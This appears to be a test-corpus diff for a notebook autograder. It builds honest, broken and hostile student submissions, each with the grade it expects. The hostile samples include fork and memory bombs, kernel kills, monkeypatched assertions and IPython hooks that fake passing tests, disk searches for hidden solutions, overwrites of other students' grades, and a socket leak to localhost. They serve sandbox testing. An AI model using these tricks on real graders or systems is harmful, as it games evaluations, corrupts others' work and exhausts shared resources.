@@ -1,0 +1,608 @@
+"""A corpus of broken and hostile submissions of the real exercise 1 (``01_visual_cortex``).
+
+Each case is a function that returns the submitted file's text (or ``None`` when the test makes the
+file itself), with the grade it must get: the expected status (its start, and fragments it must
+contain) and the expected points per autograded cell. Three honest submissions (full marks, two
+typical mistakes, blank) are graded in the same batch and must keep their exact scores.
+
+The cases are built from the current notebooks of ``solutions/`` and ``exercises/``, so that they
+follow the exercise when it changes. ``python tests/hostile/corpus.py FOLDER`` writes them out for a
+person to look at (the paths and port they use are then placeholders).
+
+Points per cell, in notebook order: receptive field (visible 1, hidden 2), dense parameter count
+(visible 1, hidden 1), convolution parameter count (visible 1, hidden 1); 7 in all.
+"""
+
+from __future__ import annotations
+
+import json
+import sys
+import textwrap
+import uuid
+from dataclasses import dataclass, field
+from pathlib import Path
+
+import nbformat
+
+REPO = Path(__file__).resolve().parents[2]
+ASSIGNMENT = "01_visual_cortex"
+SOLUTION = REPO / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
+STUDENT = REPO / "exercises" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
+CELLS = [
+    "receptive_field_visible",
+    "receptive_field_hidden",
+    "dense_param_count_visible",
+    "dense_param_count_hidden",
+    "conv_param_count_visible",
+    "conv_param_count_hidden",
+]
+FULL = dict(zip(CELLS, [1, 2, 1, 1, 1, 1], strict=True))
+RF, DENSE, CONV = CELLS[:2], CELLS[2:4], CELLS[4:]
+
+
+def points(*lost: list[str]) -> dict[str, float]:
+    """Full marks except the cells of ``lost``."""
+    gone = {cell for group in lost for cell in group}
+    return {cell: 0 if cell in gone else value for cell, value in FULL.items()}
+
+
+WRONG_POINTS = {**points(CONV), "receptive_field_hidden": 0}  # 3: visible RF and both dense pass
+ZERO = {cell: 0 for cell in CELLS}
+
+
+@dataclass
+class Context:
+    """What some cases aim at: the test's own folders, a listening port, a process marker."""
+
+    submissions: Path = Path("/SUBMISSIONS")
+    output: Path = Path("/OUTPUT")
+    port: int = 9
+    marker: str = "MARKER"
+    victim_file: str = "honest_full.ipynb"
+
+
+@dataclass
+class Case:
+    name: str  # the student id it gets (its file is NAME.ipynb)
+    text: str | None
+    status: str  # the status starts with this
+    contains: tuple[str, ...] = ()  # ... and contains these
+    scores: dict[str, float] = field(default_factory=dict)
+    isolation_only: bool = False  # the outcome depends on the namespace sandbox
+
+
+def answers_of(notebook_path: Path) -> dict[str, str]:
+    nb = nbformat.read(notebook_path, as_version=4)
+    return {
+        cell.metadata["nbgrader"]["grade_id"]: cell.source
+        for cell in nb.cells
+        if cell.metadata.get("nbgrader", {}).get("solution")
+    }
+
+
+CORRECT = answers_of(SOLUTION)
+RF_CORRECT = CORRECT["receptive_field_size"]
+COUNTS_CORRECT = CORRECT["parameter_counts"]
+RF_WRONG = (
+    "def receptive_field_size(layers):\n"
+    "    return 1 + sum(kernel_size - 1 for kernel_size, _ in layers)\n"
+)
+COUNTS_WRONG = (  # dense right, convolution without its biases
+    "def dense_params(height, width, channels, units):\n"
+    "    return (height * width * channels + 1) * units\n\n\n"
+    "def conv_params(kernel_size, in_channels, filters):\n"
+    "    return kernel_size * kernel_size * in_channels * filters\n"
+)
+COUNTS_NO_BIAS = (  # both counts forget the biases
+    "def dense_params(height, width, channels, units):\n"
+    "    return height * width * channels * units\n\n\n"
+    "def conv_params(kernel_size, in_channels, filters):\n"
+    "    return kernel_size * kernel_size * in_channels * filters\n"
+)
+
+
+def notebook(answers: dict[str, str] | None = None, base: Path = STUDENT):
+    """The student version (or ``base``) with the given answer cells (by grade_id) replaced."""
+    nb = nbformat.read(base, as_version=4)
+    for cell in nb.cells:
+        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
+        if answers and grade_id in answers:
+            cell.source = answers[grade_id]
+    return nb
+
+
+def answered(rf: str = RF_CORRECT, counts: str = COUNTS_CORRECT, extra: str | None = None) -> str:
+    """Notebook text with these answers; ``extra`` goes into a new cell after the setup cell."""
+    nb = notebook({"receptive_field_size": rf, "parameter_counts": counts})
+    if extra is not None:
+        nb.cells.insert(4, nbformat.v4.new_code_cell(textwrap.dedent(extra)))
+    return nbformat.writes(nb)
+
+
+def copy_of(cell):
+    """A copy of a cell, under a new cell id (as Jupyter gives a pasted cell)."""
+    copied = nbformat.from_dict(json.loads(json.dumps(cell)))
+    copied["id"] = uuid.uuid4().hex[:8]
+    return copied
+
+
+def index_of(nb, grade_id: str) -> int:
+    return next(
+        i
+        for i, c in enumerate(nb.cells)
+        if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id
+    )
+
+
+# --- the cases ------------------------------------------------------------------------------------
+
+
+def honest_cases() -> list[Case]:
+    return [
+        Case("honest_full", SOLUTION.read_text(encoding="utf-8"), "graded", scores=FULL),
+        Case("honest_partial", answered(RF_WRONG, COUNTS_WRONG), "graded", scores=WRONG_POINTS),
+        Case("honest_blank", STUDENT.read_text(encoding="utf-8"), "graded", scores=ZERO),
+    ]
+
+
+def broken_files() -> list[Case]:
+    solution = SOLUTION.read_text(encoding="utf-8")
+    other = (REPO / "book" / f"{ASSIGNMENT}.ipynb").read_text(encoding="utf-8")
+    return [
+        Case(
+            "invalid_json",
+            solution[: len(solution) // 2],
+            "could not be graded: invalid notebook JSON",
+            scores=ZERO,
+        ),
+        Case("empty_file", "", "could not be graded: empty file", scores=ZERO),
+        Case("other_assignment", other, "could not be graded: wrong assignment", scores=ZERO),
+        # written by the test itself (hundreds of MB), refused before it is read
+        Case("huge_notebook", None, "could not be graded: file too large", scores=ZERO),
+    ]
+
+
+def tampered_cells() -> list[Case]:
+    cases = []
+    nb = notebook(CORRECT)
+    for grade_id in ("conv_param_count_hidden", "receptive_field_visible"):
+        del nb.cells[index_of(nb, grade_id)]
+    cases.append(
+        Case("cells_deleted", nbformat.writes(nb), "graded; test cells put back", scores=FULL)
+    )
+
+    nb = notebook(CORRECT)
+    for grade_id, copies in (("receptive_field_hidden", 2), ("dense_param_count_visible", 1)):
+        at = index_of(nb, grade_id)
+        for _ in range(copies):
+            nb.cells.insert(at, copy_of(nb.cells[at]))
+    at = index_of(nb, "parameter_counts")  # and a copy of an answer cell, after the original
+    nb.cells.insert(at + 1, copy_of(nb.cells[at]))
+    cases.append(
+        Case(
+            "cells_duplicated",
+            nbformat.writes(nb),
+            "graded; duplicated cells counted once",
+            scores=FULL,
+        )
+    )
+
+    nb = notebook({"receptive_field_size": RF_WRONG, "parameter_counts": COUNTS_WRONG})
+    for grade_id in CELLS:
+        nb.cells[index_of(nb, grade_id)].source = "pass  # tests removed"
+    cases.append(
+        Case(
+            "cells_edited",
+            nbformat.writes(nb),
+            "graded; edited test cells restored",
+            scores=WRONG_POINTS,
+        )
+    )
+
+    nb = notebook(CORRECT)
+    rf_visible, rf_hidden = (
+        index_of(nb, "receptive_field_visible"),
+        index_of(nb, "receptive_field_hidden"),
+    )
+    nb.cells[rf_visible], nb.cells[rf_hidden] = nb.cells[rf_hidden], nb.cells[rf_visible]
+    conv_visible = nb.cells.pop(index_of(nb, "conv_param_count_visible"))
+    nb.cells.append(conv_visible)  # moved to the very end, after the manual answer
+    cases.append(
+        Case("cells_reordered", nbformat.writes(nb), "graded; test cells were moved", scores=FULL)
+    )
+
+    nb = notebook({"receptive_field_size": RF_WRONG, "parameter_counts": COUNTS_WRONG})
+    meta = nb.cells[index_of(nb, "receptive_field_hidden")].metadata["nbgrader"]
+    meta["points"] = 100
+    conv = nb.cells[index_of(nb, "conv_param_count_hidden")]
+    conv.metadata["nbgrader"]["grade_id"] = "my_own_test"  # renamed: the real one is put back
+    nb.cells[index_of(nb, "conv_param_count_visible")].cell_type = "markdown"
+    nb.cells[index_of(nb, "conv_param_count_visible")].pop("outputs", None)
+    nb.cells[index_of(nb, "conv_param_count_visible")].pop("execution_count", None)
+    answer = nb.cells[index_of(nb, "parameter_counts")].metadata["nbgrader"]
+    answer.update(grade=True, points=50)
+    cases.append(
+        Case(
+            "metadata_changed",
+            nbformat.writes(nb),
+            "graded;",
+            ("changed cell type or grading metadata ignored", "unknown grade ids", "put back"),
+            scores=WRONG_POINTS,
+        )
+    )
+    return cases
+
+
+def runaway_code() -> list[Case]:
+    loop = RF_CORRECT.replace(
+        '    """Input pixels', '    while True:\n        pass\n    """Input pixels', 1
+    )
+    ignore = COUNTS_CORRECT.replace(
+        "def conv_params(kernel_size, in_channels, filters):\n",
+        "def conv_params(kernel_size, in_channels, filters):\n"
+        "    import signal\n"
+        "    signal.signal(signal.SIGINT, signal.SIG_IGN)\n"
+        "    while True:\n"
+        "        pass\n",
+    )
+    memory = COUNTS_CORRECT.replace(
+        "def dense_params(height, width, channels, units):\n",
+        "def dense_params(height, width, channels, units):\n"
+        "    hoard = []\n"
+        "    while True:\n"
+        "        hoard.append(bytearray(b'x') * (100 << 20))\n",
+    )
+    processes_memory = COUNTS_CORRECT.replace(
+        "def conv_params(kernel_size, in_channels, filters):\n",
+        "def conv_params(kernel_size, in_channels, filters):\n"
+        "    import os, time\n"
+        "    for _ in range(4):\n"
+        "        if os.fork() == 0:\n"
+        "            hoard = bytearray(b'x') * (1200 << 20)\n"
+        "            time.sleep(600)\n"
+        "    time.sleep(600)\n",
+    )
+    fork_bomb = COUNTS_CORRECT.replace(
+        "def conv_params(kernel_size, in_channels, filters):\n",
+        "def conv_params(kernel_size, in_channels, filters):\n"
+        "    import os\n"
+        "    while True:\n"
+        "        try:\n"
+        "            os.fork()\n"
+        "        except OSError:\n"
+        "            pass\n",
+    )
+    flood = "for _ in range(100):\n    print('x' * (1 << 20))\n"
+    return [
+        Case(
+            "infinite_loop",
+            answered(loop),
+            "graded; interrupted after",
+            ("test cell receptive_field_visible",),
+            scores=points(RF),
+        ),
+        Case(
+            "loop_ignores_interrupt",
+            answered(counts=ignore),
+            "partly graded: a cell ran past",
+            ("did not stop when interrupted", "test cell conv_param_count_visible"),
+            scores=points(CONV),
+        ),
+        Case("memory_bomb", answered(counts=memory), "graded", scores=points(DENSE)),
+        Case(
+            "memory_bomb_processes",
+            answered(counts=processes_memory),
+            "partly graded: it used more than",
+            ("GB of memory in test cell conv_param_count_visible",),
+            scores=points(CONV),
+            isolation_only=True,
+        ),
+        Case(
+            "fork_bomb",
+            answered(counts=fork_bomb),
+            "partly graded: it started more than",
+            ("processes in test cell conv_param_count_visible",),
+            scores=points(CONV),
+            isolation_only=True,
+        ),
+        Case("output_flood", answered(extra=flood), "graded; output cut at", scores=FULL),
+    ]
+
+
+def exits() -> list[Case]:
+    sys_exit = "import sys\nsys.exit('goodbye')\n" + COUNTS_CORRECT
+    os_exit = COUNTS_CORRECT + "\n\nimport os\nos._exit(0)\n"
+    kill = COUNTS_CORRECT.replace(
+        "def conv_params(kernel_size, in_channels, filters):\n",
+        "def conv_params(kernel_size, in_channels, filters):\n"
+        "    import os, signal\n"
+        "    os.kill(os.getpid(), signal.SIGKILL)\n",
+    )
+    return [
+        # SystemExit is an error of its cell: the functions are not defined, the kernel lives on
+        Case("sys_exit", answered(counts=sys_exit), "graded", scores=points(DENSE, CONV)),
+        Case(
+            "os_exit",
+            answered(counts=os_exit),
+            "partly graded: the kernel exited",
+            ("answer cell parameter_counts",),
+            scores=points(DENSE, CONV),
+        ),
+        Case(
+            "kill_kernel",
+            answered(counts=kill),
+            "partly graded: the kernel was killed by signal SIGKILL",
+            ("test cell conv_param_count_visible",),
+            scores=points(CONV),
+        ),
+    ]
+
+
+def tampering() -> list[Case]:
+    always_equal = textwrap.dedent(
+        """\
+        class Anything:
+            def __eq__(self, other):
+                return True
+
+            def __ne__(self, other):
+                return False
+
+            __hash__ = object.__hash__
+
+
+        class Yes(int):
+            def __eq__(self, other):
+                return True
+
+
+        def receptive_field_size(layers):
+            return Anything()
+        """
+    )
+    counts_equal = COUNTS_CORRECT.replace(
+        "    return (weights_per_filter + 1) * filters", "    return Yes(0)"
+    )
+    patch_libraries = COUNTS_NO_BIAS + textwrap.dedent(
+        """
+
+        # make the references agree with the answers above, and the assertions harmless
+        import builtins
+        import numpy as np
+        import numpy.testing
+        import torch
+
+        _Linear, _Conv2d = torch.nn.Linear, torch.nn.Conv2d
+        torch.nn.Linear = lambda *a, **k: _Linear(*a, **{**k, "bias": False})
+        torch.nn.Conv2d = lambda *a, **k: _Conv2d(*a, **{**k, "bias": False})
+        numpy.testing.assert_allclose = lambda *a, **k: None
+        np.testing.assert_array_equal = lambda *a, **k: None
+        torch.testing.assert_close = lambda *a, **k: None
+        builtins.sum = lambda values, start=0: 0
+        """
+    )
+    patch_traceback = COUNTS_NO_BIAS + textwrap.dedent(
+        """
+
+        # failing tests should show nothing
+        import sys
+        from IPython.core.interactiveshell import InteractiveShell
+
+        ip = get_ipython()
+        ip.showtraceback = lambda *a, **k: None
+        ip._showtraceback = lambda *a, **k: None
+        InteractiveShell.showtraceback = lambda *a, **k: None
+        sys.excepthook = lambda *a: None
+        ip.set_custom_exc((Exception,), lambda shell, etype, value, tb, tb_offset=None: None)
+        """
+    )
+    patch_ipython = COUNTS_NO_BIAS + textwrap.dedent(
+        """
+
+        # failing cells should report success, and assertions should vanish
+        import ast
+        from IPython.core.interactiveshell import InteractiveShell
+
+        _run_cell = InteractiveShell.run_cell
+
+        def run_cell(self, *args, **kwargs):
+            result = _run_cell(self, *args, **kwargs)
+            result.error_in_exec = None
+            result.error_before_exec = None
+            return result
+
+        InteractiveShell.run_cell = run_cell
+
+
+        class NoAsserts(ast.NodeTransformer):
+            def visit_Assert(self, node):
+                return ast.Pass()
+
+
+        get_ipython().ast_transformers.append(NoAsserts())
+        """
+    )
+    return [
+        Case(
+            "eq_always_true",
+            answered(always_equal, counts_equal),
+            "graded; answers rejected",
+            scores=points(RF, CONV),
+        ),
+        Case(
+            "patch_libraries",
+            answered(counts=patch_libraries),
+            "graded; library changes undone before the tests",
+            ("torch.nn.Linear", "numpy.testing.assert_allclose", "builtins.sum"),
+            scores=points(DENSE, CONV),
+        ),
+        Case(
+            "patch_traceback",
+            answered(counts=patch_traceback),
+            "graded",
+            scores=points(DENSE, CONV),
+        ),
+        Case(
+            "patch_ipython",
+            answered(counts=patch_ipython),
+            "graded",
+            ("IPython",),
+            scores=points(DENSE, CONV),
+        ),
+    ]
+
+
+def reaching_out(context: Context) -> list[Case]:
+    steal = textwrap.dedent(
+        f"""\
+        # look for the solutions and the hidden tests on disk; use them if found
+        import glob, json, os
+        found = []
+        places = [{str(REPO / "solutions")!r}, {str(REPO / ".git")!r}, {str(REPO / ".cache")!r},
+                  {str(context.output)!r}, {str(context.submissions)!r}, "/tmp", "/work", "/root", "/home"]
+        for place in places:
+            for pattern in ("**/*.ipynb", "**/*.db", "**/*.json"):
+                try:
+                    found += glob.glob(os.path.join(place, pattern), recursive=True)[:50]
+                except OSError:
+                    pass
+        print("found", found)
+        for path in found:
+            try:
+                nb = json.load(open(path))
+            except Exception:
+                continue
+            for cell in nb.get("cells", []):
+                text = "".join(cell.get("source", ""))
+                if "BEGIN SOLUTION" in text and "solutions" in path:
+                    try:
+                        exec(text, globals())
+                        print("STOLEN", path)
+                    except Exception:
+                        pass
+        """
+    )
+    leak = textwrap.dedent(
+        """\
+        # print every earlier cell, hidden tests included, for the feedback page
+        for number, text in enumerate(In):
+            print(number, text)
+        print(get_ipython().user_ns.get("_i"), *sorted(k for k in globals() if k.startswith("_i")))
+        """
+    )
+    victim = context.submissions / context.victim_file
+    blank = json.dumps(STUDENT.read_text(encoding="utf-8"))
+    write = textwrap.dedent(
+        f"""\
+        # try to change other students' grades and the grader's files
+        import os
+        targets = {{
+            "victim": {str(victim)!r},
+            "results": {str(context.output / "results" / "honest_full.json")!r},
+            "csv": {str(context.output / "grades.csv")!r},
+            "cnnkit": {str(REPO / "cnnkit" / "_hostile_probe.py")!r},
+            "gradebook": {str(REPO / ".cache" / "nbgrader" / "gradebook.db")!r},
+            "numpy": os.path.join(os.path.dirname(__import__("numpy").__file__), "_hostile_probe.py"),
+        }}
+        for name, path in targets.items():
+            try:
+                with open(path, "a" if name == "gradebook" else "w") as handle:
+                    handle.write({blank} if name == "victim" else "")
+                print("WROTE", name)
+            except OSError as error:
+                print("BLOCKED", name, type(error).__name__)
+        """
+    )
+    network = textwrap.dedent(
+        f"""\
+        import socket
+        try:
+            with socket.create_connection(("127.0.0.1", {context.port}), timeout=5) as s:
+                s.sendall(("\\n".join(In)).encode())
+            print("CONNECTED")
+        except OSError as error:
+            print("NO NETWORK", type(error).__name__)
+        """
+    )
+    linger = textwrap.dedent(
+        f"""\
+        import os, subprocess, sys, time
+        subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)  # {context.marker}"])
+        if os.fork() == 0:  # a daemon: new session, double fork
+            os.setsid()
+            if os.fork() == 0:
+                os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)  # {context.marker}"])
+            os._exit(0)
+        time.sleep(1)
+        """
+    )
+    # the search runs at the end of both answer cells, so that what it finds would replace them
+    nb = nbformat.reads(
+        answered(RF_WRONG + "\n" + steal, COUNTS_WRONG + "\n" + steal), as_version=4
+    )
+    nb.cells.insert(index_of(nb, "dense_param_count_visible"), nbformat.v4.new_code_cell(leak))
+    return [
+        Case(
+            "read_secrets", nbformat.writes(nb), "graded", scores=WRONG_POINTS, isolation_only=True
+        ),
+        Case("write_elsewhere", answered(extra=write), "graded", scores=FULL, isolation_only=True),
+        Case("network", answered(extra=network), "graded", scores=FULL, isolation_only=True),
+        Case("lingering_process", answered(extra=linger), "graded", scores=FULL),
+    ]
+
+
+def cases(context: Context | None = None) -> list[Case]:
+    context = context or Context()
+    return [
+        *honest_cases(),
+        *broken_files(),
+        *tampered_cells(),
+        *runaway_code(),
+        *exits(),
+        *tampering(),
+        *reaching_out(context),
+    ]
+
+
+def file_name(case: Case) -> str:
+    """A plain file name: the student id is the case's name."""
+    return f"{case.name}.ipynb"
+
+
+def write_huge(path: Path, megabytes: int = 300) -> None:
+    """A valid notebook of ``megabytes`` MB (one cell with a huge output), written in chunks."""
+    head = json.dumps(nbformat.v4.new_notebook())[:-1]  # without the closing brace
+    chunk = "x" * (1 << 20)
+    with path.open("w", encoding="utf-8") as handle:
+        handle.write(
+            head.replace(
+                '"cells": []',
+                '"cells": [{"cell_type": "code", "metadata": {}, '
+                '"execution_count": 1, "source": "print()", "outputs": '
+                '[{"output_type": "stream", "name": "stdout", "text": "',
+            )
+        )
+        for _ in range(megabytes):
+            handle.write(chunk)
+        handle.write('"}]}]}')
+
+
+def write(folder: Path, context: Context | None = None, isolated: bool = True) -> dict[str, Case]:
+    """Write every case into ``folder`` (without the ``isolation_only`` ones unless ``isolated``:
+    without the sandbox they would really write, fork or fill memory); return them by student id."""
+    folder.mkdir(parents=True, exist_ok=True)
+    written = {}
+    for case in cases(context):
+        if case.isolation_only and not isolated:
+            continue
+        path = folder / file_name(case)
+        if case.text is None:
+            write_huge(path)
+        else:
+            path.write_text(case.text, encoding="utf-8")
+        written[case.name] = case
+    return written
+
+
+if __name__ == "__main__":
+    write(Path(sys.argv[1]))
